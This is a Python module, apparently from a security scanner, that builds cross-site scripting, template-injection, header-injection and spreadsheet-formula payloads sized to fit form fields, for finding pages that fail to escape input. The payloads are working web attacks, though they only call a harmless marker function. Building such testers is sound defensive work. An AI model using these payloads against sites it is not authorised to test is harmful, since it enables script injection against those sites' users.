"""Text that runs, or becomes markup, wherever a page forgets to escape it."""

from __future__ import annotations

CALL = "zqran"
"""The function that a text would call; a browser of the crawl tells of each call."""
EVALUATED = "1234568"
"""What a page shows if it evaluates a text as a template."""

_CONTROLS = "\u202e\u2066\u200b\u200f\ufeff\u2028"
# Each is for one kind of place; the shortest first, for fields with room for little.
_PIECES = (
    '"><zq-el zq=1>',
    "'><zq-el zq=1>",
    f"<svg/onload={CALL}()>",
    f"<img src=x onerror={CALL}()>",
    f"</script><script>{CALL}()</script>",
    f'" onfocus={CALL}() autofocus zq="',
    f"' onfocus={CALL}() autofocus zq='",
    f"javascript:{CALL}()",
    # In the expressions of Alpine and in scripts.
    f"');{CALL}();('",
    f"`+{CALL}()+`${{{CALL}()}}",
    '{{ 1234567|add:"1" }}{% debug %}{% load x %}',
    f"</textarea></title></style>--><svg onload={CALL}()>",
    f"<style>*{{display:none}}</style><zq-el x-data x-init={CALL}()>",
    f"\\u003cscript\\u003e{CALL}()]]>&lt;script&gt;&#60;zq-el&#62;%3Czq-el%3E",
    f"{_CONTROLS}zq{_CONTROLS}",
    "=HYPERLINK(1);%0d%0aSet-Cookie: zq=1\\",
    "zq" * 150,
)
ADDRESSES = (
    f"javascript:{CALL}()//https://a.example/",
    f"https://a.example/\"><script>{CALL}()</script>' onfocus={CALL}() autofocus zq='",
    f"https://a.example/?zq=%22%3E%3Cscript%3E{CALL}()%3C/script%3E",
)
"""Addresses, the worst first: the database refuses some of them."""


def fit(room: int | None, *, turn: int = 0) -> str:
    """Return as many pieces as there is room for, beginning with another one each ``turn``."""
    ordered = [*_PIECES[turn % len(_PIECES) :], *_PIECES[: turn % len(_PIECES)]]
    if room is None:
        return "".join(ordered)
    text = ""
    for piece in ordered:
        if len(text) + len(piece) <= room:
            text += piece
    return text or _PIECES[0][:room]
